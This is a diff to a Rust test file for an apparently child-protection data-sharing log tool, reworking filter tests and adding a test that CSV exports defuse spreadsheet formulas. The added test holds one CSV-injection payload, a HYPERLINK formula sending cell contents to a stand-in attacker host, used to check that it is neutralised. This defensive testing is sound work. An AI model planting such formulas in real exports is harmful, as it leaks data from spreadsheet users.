@@ -3,6 +3,8 @@
 //! generated data picks; `log subject` finds every decision about a person and no other; exports
 //! round-trip; the report's counts match.
 
+mod common;
+
 use std::collections::{BTreeMap, BTreeSet};
 use std::path::Path;
 use std::process::Command;
@@ -141,7 +143,9 @@ async fn each_filter_returns_exactly_the_matching_records() {
                 "--to",
                 "2026-01-01T00:05:00Z",
             ],
-            Box::new(|g| g.seq > 120 && g.seq <= 300),
+            Box::new(|g| {
+                g.at.as_str() >= "2026-01-01T00:02:00" && g.at.as_str() < "2026-01-01T00:05:00"
+            }),
         ),
         (
             // A date as --to includes the whole day.
@@ -164,7 +168,7 @@ async fn each_filter_returns_exactly_the_matching_records() {
                 g.sender == "northshire-cc"
                     && g.purpose == "child-protection-s47"
                     && g.decision == "shared"
-                    && g.seq <= 480
+                    && g.at.as_str() < "2026-01-01T00:08:00"
             }),
         ),
     ];
@@ -188,7 +192,10 @@ async fn each_filter_returns_exactly_the_matching_records() {
                 .expect("seq")
         })
         .collect();
-    assert_eq!(seqs, vec![700, 699, 698]);
+    let mut three_newest: Vec<i64> = all.iter().map(|g| g.seq).collect();
+    three_newest.sort_unstable_by(|a, b| b.cmp(a));
+    three_newest.truncate(3);
+    assert_eq!(seqs, three_newest);
 }
 
 #[tokio::test]
@@ -337,4 +344,40 @@ async fn exports_round_trip_and_the_report_counts_match() {
         report["dead_deliveries"].as_array().expect("array").len(),
         dead
     );
+}
+
+/// A CSV export is opened in spreadsheets: a cell a sender wrote that a spreadsheet would run as
+/// a formula (`=`, `+`, `-`, `@`, tab, CR at the start) is neutralised with a leading `'`; the
+/// JSON lines export keeps the text exactly.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_cells_are_never_formulas_and_jsonl_is_unchanged() {
+    let d = common::Deployment::new();
+    let server = d.start().await;
+    let mut conn = d.connect(server.addr, "northshire-cc").await;
+    let formula = "=HYPERLINK(\"https://attacker.example/\"&A1,\"Open\")";
+    let a = common::submit(
+        &mut conn,
+        &common::envelope(serde_json::json!({ "justification": formula })),
+        vec![1; 100],
+        None,
+    )
+    .await;
+    assert_eq!(a.status, 202);
+    server.stop().await;
+
+    let csv_text = postern(&d.state_dir, &["log", "export", "--format", "csv"]);
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let headers = reader.headers().expect("headers").clone();
+    let col = headers
+        .iter()
+        .position(|h| h == "justification")
+        .expect("justification column");
+    let cells: Vec<String> = reader
+        .records()
+        .map(|r| r.expect("row")[col].to_owned())
+        .collect();
+    assert_eq!(cells, vec![format!("'{formula}")]);
+    let jsonl = postern(&d.state_dir, &["log", "export", "--format", "jsonl"]);
+    let line: Value = serde_json::from_str(jsonl.lines().next().expect("a line")).expect("json");
+    assert_eq!(line["record"]["envelope"]["justification"], formula);
 }
